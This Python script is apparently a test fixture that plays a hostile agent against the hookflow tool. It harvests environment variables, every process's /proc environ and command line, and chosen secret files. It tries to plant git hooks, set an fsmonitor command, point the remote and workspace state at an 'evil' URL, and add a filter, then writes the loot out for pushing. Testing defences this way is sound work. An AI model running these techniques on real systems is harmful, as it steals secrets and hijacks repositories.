#!/usr/bin/env python3
"""A hostile agent for the security tests: it hunts for hookflow's secrets and tries to make
hookflow's own git run its code or push elsewhere, then publishes whatever it found (stdout,
stderr, a file in the workspace, which hookflow pushes).

Arguments: paths to try to read (secret files, the worker's home, …) and an evil URL.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path


def read(path: Path) -> str:
    try:
        if path.is_dir():
            found = []
            for item in sorted(path.rglob("*"))[:200]:
                found.append(f"{item}: {read(item)[:2000] if item.is_file() else '<dir>'}")
            return "\n".join(found)
        return path.read_bytes().decode(errors="replace")
    except OSError as exc:
        return f"<{exc.strerror}>"


def attempt(what: str, action) -> str:
    try:
        action()
        return f"{what}: done"
    except (OSError, subprocess.CalledProcessError) as exc:
        return f"{what}: failed ({exc})"


def main() -> int:
    json.load(sys.stdin)
    *targets, evil = sys.argv[1:]
    loot: dict[str, str] = {"env": json.dumps(dict(os.environ))}
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            loot[f"environ:{proc.name}"] = read(proc / "environ").replace("\0", "\n")
            loot[f"cmdline:{proc.name}"] = read(proc / "cmdline").replace("\0", " ")
    for target in targets:
        loot[f"file:{target}"] = read(Path(target))
    loot["home"] = read(Path.home())
    git = Path(".git")
    hook = "#!/bin/sh\nenv > /tmp/hookflow-hook-ran; env > HOOK_RAN.txt\n"
    tries = [
        attempt("pre-push hook", lambda: (git / "hooks" / "pre-push").write_text(hook)),
        attempt("post-commit hook", lambda: (git / "hooks" / "post-commit").write_text(hook)),
        attempt(
            "fsmonitor",
            lambda: subprocess.run(
                ["git", "config", "core.fsmonitor", "env > FSMONITOR_RAN.txt; false"],
                check=True,
                capture_output=True,
            ),
        ),
        attempt(
            "origin",
            lambda: subprocess.run(
                ["git", "remote", "add", "origin", evil], check=True, capture_output=True
            ),
        ),
        attempt(
            "state",
            lambda: (git / "hookflow-workspace.json").write_text(
                json.dumps(
                    {
                        "clone_url": evil,
                        "branch": "main",
                        "base_sha": "0" * 40,
                        "base_branch": "main",
                    }
                )
            ),
        ),
        attempt("filter", lambda: Path(".gitattributes").write_text("* filter=evil\n")),
    ]
    report = json.dumps({"tries": tries, "loot": loot}, indent=1)
    Path("LOOT.txt").write_text(report)
    print(report, file=sys.stderr)
    print(
        json.dumps(
            {"tries": tries, "procs": sum(k.startswith("environ:") for k in loot), "loot": report}
        )
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
